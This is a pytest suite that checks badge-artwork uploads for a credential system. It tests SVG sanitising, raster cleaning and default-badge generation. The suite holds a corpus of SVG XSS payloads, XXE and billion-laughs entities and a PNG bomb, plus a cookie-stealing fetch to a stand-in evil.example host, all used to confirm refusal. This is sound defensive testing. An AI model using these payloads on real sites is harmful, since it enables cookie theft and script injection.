"""Badge artwork: hostile SVGs refused or neutralised (checked on the parsed output), raster uploads
checked and cleaned, and the generated default badge (deterministic, legible, bakeable)."""
from __future__ import annotations

import base64
import io
import re
import struct
import zlib

import pytest
from defusedxml.minidom import parseString
from PIL import Image

from badges import artwork, bake, images, unbake
from badges.artwork import Artwork, ArtworkError, default_badge, prepare_upload, sanitise_svg, to_png
from badges.bake import _png_chunks
from tests.badges.factories import assertion, credential

SVG_NS = "http://www.w3.org/2000/svg"
XLINK_NS = "http://www.w3.org/1999/xlink"
HEAD = f'<svg xmlns="{SVG_NS}" xmlns:xlink="{XLINK_NS}" viewBox="0 0 100 100">'


def svg(body: str, head: str = HEAD) -> bytes:
    return (head + body + "</svg>").encode()


def raster(fmt: str = "PNG", size=(64, 64), colour=(200, 30, 60, 255), **save) -> bytes:
    image = Image.new("RGBA" if fmt != "JPEG" else "RGB", size, colour if fmt != "JPEG" else colour[:3])
    out = io.BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def chunk_types(png: bytes) -> set[bytes]:
    return {kind for kind, _body, _start, _end in _png_chunks(png)}


# -- what "inert" means, checked on the parsed tree ------------------------------------------------------

ALLOWED_ELEMENTS = images._ELEMENTS | {"svg", "image"}


def assert_inert(data: bytes) -> None:
    """Every element allowed, no handler, every link local or a raster data: URI, no outside url()."""
    document = parseString(data, forbid_dtd=True, forbid_entities=True, forbid_external=True)
    assert not [n for n in document.childNodes if n.nodeType == n.PROCESSING_INSTRUCTION_NODE]
    for element in document.getElementsByTagName("*"):
        assert element.namespaceURI == SVG_NS and element.localName in ALLOWED_ELEMENTS, element.tagName
        for attribute in element.attributes.values():
            name, value = attribute.localName.lower(), attribute.value
            if attribute.name.startswith("xmlns"):
                continue
            assert not name.startswith("on"), attribute.name
            hostile = r"(java|vb)script|data:(?!image/png;base64,)|expression|@import|\\"
            assert not re.search(hostile, value, re.I), value
            if name == "href":
                assert re.fullmatch(r"#[\w.-]+", value) or (
                    element.localName == "image" and value.startswith("data:image/png;base64,")), value
            for url in re.findall(r"url\(([^)]*)\)", value):
                assert url.strip("'\" ").startswith("#"), value
        if element.localName == "style":
            text = "".join(n.data for n in element.childNodes)
            assert "@" not in text and "\\" not in text
            assert all(u.strip("'\" ").startswith("#") for u in re.findall(r"url\(([^)]*)\)", text))


# -- a corpus of real SVG XSS payloads -------------------------------------------------------------------

PNG_URI = "data:image/png;base64," + base64.b64encode(raster()).decode()
HTML_B64 = base64.b64encode(b"<script>alert(document.domain)</script>").decode()
EVIL_SVG_B64 = base64.b64encode(svg('<script>alert(1)</script>')).decode()

XSS = {
    "script": svg('<script type="text/javascript">alert(document.cookie)</script><circle r="40"/>'),
    "script_cdata": svg('<script><![CDATA[fetch("//evil.example/?"+document.cookie)]]></script>'
                        '<rect width="9"/>'),
    "onload_root": svg('<rect width="10" height="10"/>',
                       f'<svg xmlns="{SVG_NS}" onload="alert(1)" viewBox="0 0 10 10">'),
    "onclick_shape": svg('<circle r="40" onclick="alert(1)" onmouseover="alert(2)"/>'),
    "xlink_javascript_use": svg('<use xlink:href="javascript:alert(1)"/><rect width="9"/>'),
    "a_javascript": svg('<a xlink:href="javascript:alert(document.domain)"><rect width="50"/></a>'),
    "a_javascript_obfuscated": svg('<a href=" jav&#x09;ascript:alert(1)"><rect width="50" height="50"/></a>'),
    "a_data_html": svg(f'<a href="data:text/html;base64,{HTML_B64}"><circle r="40"/></a>'),
    "foreign_object_html": svg(
        '<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">'
        '<iframe src="javascript:alert(1)"></iframe><img src="x" onerror="alert(1)"/></body></foreignObject>'
        '<rect width="9"/>'),
    "xhtml_script": svg('<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>'
                        '<rect width="9"/>'),
    "css_expression": svg('<rect width="10" height="10" style="width:expression(alert(1));fill:red"/>'),
    "css_url_javascript_attr": svg('<rect width="10" height="10" style="fill:url(javascript:alert(1))"/>'),
    "css_url_javascript_sheet": svg('<style>rect{fill:url("javascript:alert(1)")}</style><rect width="9"/>'),
    "css_import": svg('<style>@import url(https://evil.example/x.css); rect{fill:red}</style>'
                      '<rect width="9"/>'),
    "css_escape": svg('<style>rect{fill:u\\72l(javascript:alert(1))}</style><rect width="9"/>'),
    "css_external_url": svg('<rect width="9" fill="url(https://evil.example/p.svg#g)"/>'),
    "use_external_document": svg('<use href="https://evil.example/sprite.svg#icon"/><rect width="9"/>'),
    "use_data_svg": svg(f'<use xlink:href="data:image/svg+xml;base64,{EVIL_SVG_B64}#x"/><rect width="9"/>'),
    "image_external": svg('<image href="https://evil.example/track.png" width="10"/><rect width="9"/>'),
    "image_data_svg": svg(f'<image href="data:image/svg+xml;base64,{EVIL_SVG_B64}" width="10" height="10"/>'),
    "fe_image_external": svg('<filter id="f"><feImage xlink:href="https://evil.example/x.png"/></filter>'
                             '<rect width="9" filter="url(#f)"/>'),
    "animate_href_javascript": svg(
        '<a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">click</text></a>'),
    "set_xlink_href": svg('<a xlink:href="#x"><set attributeName="xlink:href" to="javascript:alert(1)"/>'
                          '<circle r="40"/></a>'),
    "set_event_handler": svg('<rect width="9"><set attributeName="onmouseover" to="alert(1)"/></rect>'),
    "animate_onbegin": svg('<rect width="9"><animate onbegin="alert(1)" attributeName="x" dur="1s"/></rect>'),
    "xml_stylesheet": b'<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>'
                      + svg('<rect width="9"/>'),
    "handler_element": svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">'
                           'alert(1)</handler><rect width="9"/>'),
    "billion_laughs": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
                      b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
                      + svg('<text>&d;</text>'),
    "external_entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg('<text>&x;</text>'),
    "external_dtd": b'<!DOCTYPE svg SYSTEM "https://evil.example/svg.dtd">' + svg('<rect width="9"/>'),
}


@pytest.mark.parametrize("name", sorted(XSS))
def test_xss_payloads_are_refused_on_upload(name):
    with pytest.raises(ArtworkError) as caught:
        prepare_upload(XSS[name], f"{name}.svg")
    assert caught.value.code == "unsafe_svg", caught.value.message
    assert caught.value.message


@pytest.mark.parametrize("name", sorted(XSS))
def test_xss_payloads_are_neutralised_by_the_allow_list_alone(name):
    """The second layer, on its own: whatever the refusal missed, the written document is inert."""
    try:
        out = sanitise_svg(XSS[name])
    except ArtworkError as exc:  # only what cannot even be parsed safely: DTDs and entities
        assert exc.code == "unsafe_svg" and name in ("billion_laughs", "external_entity", "external_dtd")
        return
    assert_inert(out)
    assert b"alert" not in out and b"evil.example" not in out


def test_the_checker_itself_catches_what_it_should():
    """assert_inert must be able to fail, or the corpus tests prove nothing."""
    for hostile in (XSS["script"], XSS["onclick_shape"], XSS["a_javascript"], XSS["css_external_url"]):
        with pytest.raises(AssertionError):
            assert_inert(hostile)


def test_allow_list_keeps_only_raster_data_in_images_and_re_encodes_them():
    tail = b"<script>alert(1)</script>"
    polyglot = raster(pnginfo=_text_info("Comment", "secret")) + tail
    data = svg(f'<image x="0" y="0" width="100" height="100" '
               f'xlink:href="data:image/png;base64,{base64.b64encode(polyglot).decode()}"/>')
    out = prepare_upload(data, "logo.svg")
    assert_inert(out.data)
    image = parseString(out.data).getElementsByTagName("image")[0]
    embedded = base64.b64decode(image.getAttributeNS(XLINK_NS, "href").split(",", 1)[1])
    assert chunk_types(embedded) <= {b"IHDR", b"IDAT", b"IEND"} and tail not in embedded
    assert Image.open(io.BytesIO(embedded)).size == (64, 64)
    # the verifier's display (no re-encoder given) keeps no <image> at all, as before
    assert b"<image" not in images.sanitize_svg(data)


@pytest.mark.parametrize("payload,code", [
    (raster()[:60], "malformed_image"),
    (b"\x89PNG\r\n\x1a\nnot really", "malformed_image"),
    (raster("GIF"), "unsupported_type"),
])
def test_a_bad_embedded_raster_refuses_the_svg(payload, code):
    uri = "data:image/png;base64," + base64.b64encode(payload).decode()
    data = svg(f'<image width="10" height="10" href="{uri}"/>')
    with pytest.raises(ArtworkError) as caught:
        prepare_upload(data, "x.svg")
    assert caught.value.code == code


# -- real-world SVGs pass ---------------------------------------------------------------------------------

INKSCAPE = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   xmlns:svg="http://www.w3.org/2000/svg" xmlns="http://www.w3.org/2000/svg"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   width="210mm" height="210mm" viewBox="0 0 210 210" version="1.1" id="svg8" inkscape:version="1.2"
   sodipodi:docname="badge.svg">
  <defs id="defs2"><linearGradient id="g1"><stop offset="0" style="stop-color:#ffcc00;stop-opacity:1"/>
    <stop offset="1" style="stop-color:#ff6600;stop-opacity:1"/></linearGradient></defs>
  <sodipodi:namedview id="base" pagecolor="#ffffff" inkscape:zoom="0.35"/>
  <metadata id="metadata5"><rdf:RDF><dc:title>Badge</dc:title></rdf:RDF></metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <circle style="fill:url(#g1);stroke:#333333;stroke-width:2;-inkscape-stroke:none"
            cx="105" cy="105" r="90"/>
    <text style="font-size:40px;font-family:sans-serif;fill:#ffffff" x="60" y="120">A+</text>
  </g>
</svg>"""

ILLUSTRATOR = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg id="Calque_1" data-name="Calque 1" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 300">
  <defs><style>.cls-1{fill:#e30613;}.cls-2{fill:#fff;font-family:Arial;}</style></defs>
  <title>Badge Python</title>
  <polygon class="cls-1" points="150 10 290 150 150 290 10 150 150 10"/>
  <text class="cls-2" transform="translate(90 170)">PY</text>
</svg>"""


def test_an_inkscape_file_keeps_its_drawing_and_loses_its_editor_data():
    out = prepare_upload(INKSCAPE, "badge.svg")
    assert out.media_type == "image/svg+xml" and out.filename == "badge.svg"
    assert_inert(out.data)
    document = parseString(out.data)
    circle = document.getElementsByTagName("circle")[0]
    assert circle.getAttribute("style") == "fill:url(#g1);stroke:#333333;stroke-width:2"
    assert document.getElementsByTagName("stop").length == 2
    assert document.getElementsByTagName("text")[0].firstChild.data == "A+"
    assert b"inkscape" not in out.data and b"sodipodi" not in out.data and b"rdf" not in out.data


def test_an_illustrator_file_keeps_its_classes_and_title():
    out = prepare_upload(ILLUSTRATOR, "badge.svg")
    document = parseString(out.data)
    assert ".cls-1{fill:#e30613}" in document.getElementsByTagName("style")[0].firstChild.data
    assert document.getElementsByTagName("title")[0].firstChild.data == "Badge Python"
    assert document.getElementsByTagName("polygon")[0].getAttribute("class") == "cls-1"


def test_an_svg_that_draws_nothing_once_sanitised_is_refused():
    with pytest.raises(ArtworkError) as caught:
        prepare_upload(svg('<metadata><x/></metadata><title>nothing</title>'), "empty.svg")
    assert caught.value.code == "empty_image"


@pytest.mark.parametrize("data,code", [
    (b"", "empty_file"),
    (b"GIF89a" + b"\0" * 20, "unsupported_type"),
    (b"%PDF-1.7\n", "unsupported_type"),
    (b"\x1f\x8b\x08\x00svgz", "unsupported_type"),
    (b"<html><body>hello</body></html>", "unsupported_type"),
    (b"<svg xmlns='http://www.w3.org/2000/svg'><circle", "malformed_image"),
    (svg("<g>" * 200 + "<rect width='1'/>" + "</g>" * 200), "too_large"),
    (svg('<rect width="1"/>' + "<!--" + "x" * (artwork.MAX_SVG_BYTES) + "-->"), "too_large"),
    (b"\x89PNG\r\n\x1a\n" + b"\0" * (artwork.MAX_UPLOAD_BYTES), "too_large"),
])
def test_bad_files_are_refused_with_a_stable_code(data, code):
    with pytest.raises(ArtworkError) as caught:
        prepare_upload(data, "upload.bin")
    assert caught.value.code == code


def test_damaged_files_never_raise_anything_but_artwork_errors():
    """Seeded random damage (flipped, cut and inserted bytes) to each accepted type."""
    import random
    rng = random.Random(7)
    noisy = Image.effect_noise((120, 90), 64).convert("RGB")
    samples = [INKSCAPE, ILLUSTRATOR]
    for fmt in ("PNG", "JPEG", "WEBP"):
        out = io.BytesIO()
        noisy.save(out, fmt)
        samples.append(out.getvalue())
    outcomes = set()
    for data in samples:
        for _ in range(60):
            damaged = bytearray(data)
            for _ in range(rng.randint(1, 8)):
                position, roll = rng.randrange(len(damaged)), rng.random()
                if roll < 0.6:
                    damaged[position] = rng.randrange(256)
                elif roll < 0.8:
                    del damaged[position:position + rng.randint(1, 50)]
                else:
                    damaged[position:position] = rng.randbytes(rng.randint(1, 20))
            try:
                outcomes.add(prepare_upload(bytes(damaged), "f").media_type)
            except ArtworkError as exc:
                outcomes.add(exc.code)
    assert {"malformed_image", "image/png"} <= outcomes


# -- raster uploads ---------------------------------------------------------------------------------------

def _text_info(key, value):
    from PIL import PngImagePlugin
    info = PngImagePlugin.PngInfo()
    info.add_text(key, value)
    return info


def _bomb_png(width: int, height: int) -> bytes:
    """A 1-bit PNG of width × height zero pixels: a few kilobytes on disk, width × height in memory."""
    row = b"\0" + b"\0" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def test_a_png_bomb_is_refused_before_decoding():
    bomb = _bomb_png(6000, 6000)
    assert len(bomb) < 100_000
    with pytest.raises(ArtworkError) as caught:
        prepare_upload(bomb, "bomb.png")
    assert caught.value.code == "too_large"
    header_only = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 10**6, 10**6, 8, 6, 0, 0, 0))
    with pytest.raises(ArtworkError) as caught:
        prepare_upload(header_only + chunk(b"IEND", b""), "bomb.png")
    assert caught.value.code == "too_large"


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
def test_truncated_images_are_refused(fmt):
    noisy = Image.effect_noise((300, 300), 64).convert("RGB")
    out = io.BytesIO()
    noisy.save(out, fmt)
    data = out.getvalue()
    assert prepare_upload(data, "ok").media_type == "image/png"  # the whole file is fine
    with pytest.raises(ArtworkError) as caught:
        prepare_upload(data[: len(data) // 2], "cut")
    assert caught.value.code == "malformed_image"


def test_a_png_without_its_end_is_refused():
    data = raster()
    with pytest.raises(ArtworkError) as caught:
        prepare_upload(data[:-12], "no-iend.png")
    assert caught.value.code == "malformed_image"


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_animated_images_are_refused(fmt):
    frames = [Image.new("RGBA", (32, 32), colour) for colour in ("red", "blue", "green")]
    out = io.BytesIO()
    frames[0].save(out, fmt, save_all=True, append_images=frames[1:], duration=100, loop=0)
    with pytest.raises(ArtworkError) as caught:
        prepare_upload(out.getvalue(), "spin")
    assert caught.value.code == "animated_image"
    assert prepare_upload(raster(fmt), "still").media_type == "image/png"  # one frame is fine


def test_jpeg_exif_gps_is_stripped_and_orientation_applied():
    image = Image.new("RGB", (200, 100), (10, 120, 200))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    exif[0x010F] = "SpyCam Inc."  # Make
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 3.0)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), quality=95)
    data = out.getvalue()
    with Image.open(io.BytesIO(data)) as check:  # the test file does carry the position
        assert check.getexif().get_ifd(0x8825)[1] == "N"
    result = prepare_upload(data, "photo.jpg")
    assert result.media_type == "image/png" and result.filename == "photo.png"
    assert chunk_types(result.data) <= {b"IHDR", b"IDAT", b"IEND"}
    assert b"SpyCam" not in result.data and b"Exif" not in result.data
    with Image.open(io.BytesIO(result.data)) as clean:
        assert clean.format == "PNG" and not clean.getexif() and not clean.info.get("exif")
        assert clean.size == (200, 200)  # upright: 100 wide, 200 tall, centred on a square
        rgba = clean.convert("RGBA")
        assert rgba.getpixel((10, 100))[3] == 0 and rgba.getpixel((100, 10))[3] == 255


def test_png_metadata_and_appended_payloads_are_dropped():
    from PIL import ImageCms
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = raster(pnginfo=_text_info("Author", "Jane Doe, 12 rue X"), icc_profile=icc)
    data += b"PK\x03\x04<script>alert(1)</script>"
    assert {b"tEXt", b"iCCP"} <= chunk_types(data[: data.index(b"PK\x03\x04")])
    result = prepare_upload(data, "logo.png").data
    assert chunk_types(result) <= {b"IHDR", b"IDAT", b"IEND"}
    assert result.endswith(chunk(b"IEND", b"")) and b"Jane" not in result and b"script" not in result


def test_large_images_are_resized_on_a_square_transparent_canvas():
    wide = prepare_upload(raster("PNG", (1600, 800)), "wide.png")
    with Image.open(io.BytesIO(wide.data)) as image:
        assert image.size == (512, 512) and image.mode == "RGBA"
        assert image.getpixel((256, 10))[3] == 0 and image.getpixel((256, 256)) == (200, 30, 60, 255)
        assert image.getpixel((256, 128))[3] == 255 and image.getpixel((256, 127))[3] == 0
    small = prepare_upload(raster("PNG", (100, 100)), "small.png")
    assert Image.open(io.BytesIO(small.data)).size == (100, 100)  # never scaled up


def test_the_type_comes_from_the_content_not_the_name():
    assert prepare_upload(raster(), "evil.svg").media_type == "image/png"
    assert prepare_upload(ILLUSTRATOR, "../../etc/passwd.png").filename == "passwd.svg"
    assert prepare_upload(raster("JPEG"), "a b<c>.jpg").filename == "a-b-c.png"


# -- the generated default badge ------------------------------------------------------------------------

def test_default_badge_is_deterministic_and_depends_on_its_inputs():
    one = default_badge("Licence de Mathématiques", "diploma", "ach-1")
    assert one == default_badge("Licence de Mathématiques", "diploma", "ach-1")
    assert one.media_type == "image/svg+xml"
    assert to_png(one) == to_png(default_badge("Licence de Mathématiques", "diploma", "ach-1"))
    others = {default_badge("Licence de Mathématiques", "diploma", f"ach-{i}").data for i in range(12)}
    assert len(others) > 1  # the seed picks colours and ornament
    shapes = {kind: _polygon_count(default_badge("X", kind, "s").data)
              for kind in ("diploma", "certificate", "competency", "participation", "other")}
    assert len(set(shapes.values())) == len(shapes)  # each kind has its own outline


def _polygon_count(data: bytes) -> tuple:
    first = parseString(data).getElementsByTagName("polygon")
    return tuple(len(p.getAttribute("points").split()) for p in first)


def test_default_badge_is_accessible_and_legible():
    badge = parseString(default_badge("Université Paris Cité", "certificate", "o-1").data).documentElement
    title = badge.getElementsByTagName("title")[0]
    assert title.firstChild.data == "Université Paris Cité"
    assert badge.getAttribute("role") == "img"
    assert badge.getAttribute("aria-labelledby") == title.getAttribute("id")
    text = badge.getElementsByTagName("text")[0]
    assert text.firstChild.data == "UPC" and text.getAttribute("fill") == "#ffffff"
    for base, _accent in artwork.PALETTE:  # WCAG contrast of the white initials on every base colour
        assert _contrast("#ffffff", base) >= 4.5, base


@pytest.mark.parametrize("name,label", [
    ("Licence de Mathématiques", "LM"), ("SQL avancé", "SQL"), ("Python", "PY"), ("Éco-conception", "EC"),
    ("École", "EC"), ("Brevet d'initiation aéronautique", "BIA"), ("Niveau 2", "N2"), ("東京大学", ""),
    ("", ""),
])
def test_initials(name, label):
    assert artwork._initials(name) == label
    texts = parseString(default_badge(name, "other", "s").data).getElementsByTagName("text")
    assert [t.firstChild.data for t in texts] == ([label] if label else [])


def test_a_hostile_name_stays_text():
    data = default_badge('</title><script>alert(1)</script>"<', "diploma", '"><script>').data
    document = parseString(data)
    assert not document.getElementsByTagName("script")
    assert document.getElementsByTagName("title")[0].firstChild.data.startswith("</title><script>")
    assert_inert(images.sanitize_svg(data))  # and the verifier's display keeps it drawable
    assert b"<polygon" in images.sanitize_svg(data)


def test_default_badge_takes_any_text():
    for name in ("a\x00b\x1f\ud800c\ufffe", "x" * 10_000, "  ", "\u202eevil"):
        data = default_badge(name, "Diploma", "\x00").data
        parseString(data)  # well-formed whatever the name
        assert to_png(Artwork(data, "image/svg+xml"), 64)
    assert b"<title id=\"badge-title\">abc</title>" in default_badge("a\x00b\x1f\ud800c", "x", "s").data


@pytest.mark.parametrize("shape,kinds", [
    ("shield", ("Diploma", "BachelorDegree", "License", "licence")),
    ("rosette", ("Certificate", "Certification")), ("hexagon", ("Competency", "skill")),
    ("circle", ("participation", "Attendance")), ("octagon", ("Badge", "")),
])
def test_kinds_of_a_family_share_a_shape(shape, kinds):
    assert {artwork._shape(kind) for kind in kinds} == {shape}


def _contrast(one: str, other: str) -> float:
    def luminance(colour: str) -> float:
        channels = [int(colour[i:i + 2], 16) / 255 for i in (1, 3, 5)]
        linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
    high, low = sorted((luminance(one), luminance(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def test_the_png_draws_the_same_design_as_the_svg():
    badge = default_badge("Master Informatique", "competency", "seed-7")
    document = parseString(badge.data)
    base = document.getElementsByTagName("polygon")[0].getAttribute("fill")
    png = to_png(badge)
    with Image.open(io.BytesIO(png)) as image:
        assert image.size == (512, 512) and image.format == "PNG"
        rgba = image.convert("RGBA")
        assert rgba.getpixel((0, 0))[3] == 0  # outside the hexagon: transparent
        assert "#%02x%02x%02x" % rgba.getpixel((256, 28))[:3] == base  # between the outline and the ring
        label = [rgba.getpixel((x, y))[:3] for x in range(150, 362, 4) for y in range(200, 320, 4)]
        assert label.count((255, 255, 255)) > 100  # the white initials are drawn
    assert Image.open(io.BytesIO(to_png(badge, 128))).size == (128, 128)
    with pytest.raises(ValueError):
        to_png(badge, 10_000)


def test_default_badges_bake_as_png_and_svg():
    badge = default_badge("Secourisme", "certificate", "ach-42")
    doc = credential()
    baked_png = bake(to_png(badge), doc)
    assert unbake(baked_png) == {"version": "3.0", "credential": doc, "format": "png"}
    baked_svg = bake(badge.data, doc)
    assert unbake(baked_svg) == {"version": "3.0", "credential": doc, "format": "svg"}
    old = assertion()
    assert unbake(bake(to_png(badge), old))["credential"] == old
    assert unbake(bake(badge.data, old))["version"] == "2.0"
    uploaded = prepare_upload(raster("PNG", (700, 300)), "logo.png")
    assert unbake(bake(uploaded.data, doc))["credential"] == doc
    assert unbake(bake(prepare_upload(INKSCAPE, "b.svg").data, doc))["format"] == "svg"


def test_to_png_of_uploads():
    small = prepare_upload(raster("PNG", (100, 50)), "logo.png")
    with Image.open(io.BytesIO(to_png(small, 256))) as image:  # scaled up to fit, centred
        assert image.size == (256, 256)
        assert image.getpixel((5, 128))[3] == 255 and image.getpixel((128, 5))[3] == 0
    with pytest.raises(ArtworkError) as caught:
        to_png(prepare_upload(ILLUSTRATOR, "b.svg"))
    assert caught.value.code == "needs_renderer"


def test_to_png_reads_the_design_back_from_the_svg():
    """Not regenerated from parameters: a stored badge stays drawable when the generator changes, and the
    PNG shows what the SVG says, or nothing when the SVG holds more than the generator writes."""
    badge = default_badge("Secourisme", "certificate", "ach-42")
    assert artwork._read_design(badge.data) == artwork._design("Secourisme", "certificate", "ach-42")
    first_fill = re.search(rb'<polygon points="[^"]*" fill="(#[0-9a-f]{6})"', badge.data).group(1)
    black = Artwork(badge.data.replace(b'fill="' + first_fill + b'"', b'fill="#000000"', 1), badge.media_type)
    with Image.open(io.BytesIO(to_png(black))) as image:  # the first shape is a ribbon tail, bottom left
        assert image.getpixel((100, 490))[:3] == (0, 0, 0)
    for changed in (badge.data.replace(b"</svg>", b'<rect width="9" height="9" fill="#000000"/></svg>'),
                    badge.data.replace(b'sillage:generator="1"', b""),
                    badge.data.replace(b'fill="#', b'fill="url(#', 1),
                    badge.data.replace(b'viewBox="0 0 512 512"', b'viewBox="0 0 10 10"')):
        with pytest.raises(ArtworkError) as caught:
            to_png(Artwork(changed, badge.media_type))
        assert caught.value.code == "needs_renderer"
    # an upload cannot pass itself off as a generated badge: the sanitiser drops the marker
    assert b"generator" not in prepare_upload(badge.data, "badge.svg").data


# -- in a real browser -----------------------------------------------------------------------------------

CHROMIUM = "/usr/bin/chromium"


@pytest.fixture(scope="module")
def chromium():
    """Debian's chromium through Playwright (never a downloaded browser); skipped without it, except in
    CI, where a missing browser fails as in tests/e2e."""
    import os
    from pathlib import Path
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        sync_playwright = None
    if sync_playwright is None or not Path(CHROMIUM).exists():
        if os.environ.get("CI"):
            pytest.fail("browser tests must run in CI (Debian's chromium and playwright)", pytrace=False)
        pytest.skip("chromium or playwright is not installed")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        yield browser
        browser.close()


class _Watcher:
    """One browser page that opens SVG files as top-level documents (the worst case: someone opens the
    image's own URL) and records the dialogs they raise and the requests they make besides themselves."""

    def __init__(self, browser):
        self.page = browser.new_page()
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.page.on("request", lambda request: self.requests.append(request.url))

    def open(self, path) -> tuple[list[str], list[str]]:
        self.dialogs.clear()
        self.requests.clear()
        self.page.goto(path.as_uri())
        self.page.mouse.move(5, 5)  # hover handlers
        self.page.mouse.click(5, 5)  # click handlers, links
        self.page.wait_for_timeout(150)  # animations, timers
        return list(self.dialogs), [url for url in self.requests if url != path.as_uri()]


@pytest.mark.e2e
def test_a_browser_opening_the_sanitised_payloads_runs_and_loads_nothing(chromium, tmp_path):
    watcher = _Watcher(chromium)
    original = tmp_path / "original.svg"
    original.write_bytes(svg('<rect width="100" height="100"/>', f'<svg xmlns="{SVG_NS}" onload="alert(1)">'))
    assert watcher.open(original)[0] == ["1"]  # the harness does see a script run…
    original.write_bytes(XSS["image_external"])
    assert watcher.open(original)[1] == ["https://evil.example/track.png"]  # …and a request
    for name, payload in sorted(XSS.items()):
        try:
            clean = sanitise_svg(payload)
        except ArtworkError:
            continue  # DTDs and entities: nothing is written at all
        path = tmp_path / f"{name}.svg"
        path.write_bytes(clean)
        assert watcher.open(path) == ([], []), name


@pytest.mark.e2e
def test_a_browser_draws_the_svg_as_pillow_draws_the_png(chromium, tmp_path):
    """The generated SVG, rendered by chromium (with its own fonts), against to_png's drawing."""
    def rendered(badge) -> Image.Image:
        path = tmp_path / "badge.svg"
        path.write_bytes(badge.data)
        page = chromium.new_page(viewport={"width": 512, "height": 512})
        page.goto(path.as_uri())
        shot = page.screenshot(omit_background=True)
        page.close()
        return Image.open(io.BytesIO(shot)).convert("RGBA")

    def distance(one: Image.Image, other: Image.Image) -> float:
        small = [image.resize((64, 64), Image.Resampling.BOX).convert("RGB") for image in (one, other)]
        return sum(abs(a - b) for a, b in zip(small[0].tobytes(), small[1].tobytes())) / (64 * 64 * 3)

    for args in (("Licence de Mathématiques", "diploma", "a1"), ("Secourisme", "certificate", "a2"),
                 ("Python", "competency", "a3")):
        badge = default_badge(*args)
        png = Image.open(io.BytesIO(to_png(badge))).convert("RGBA")
        browser_view = rendered(badge)
        assert distance(browser_view, png) < 8, args  # the same picture, give or take anti-aliasing
        other = Image.open(io.BytesIO(to_png(default_badge(args[0], "participation", "zz")))).convert("RGBA")
        assert distance(browser_view, other) > 20  # while another badge is far
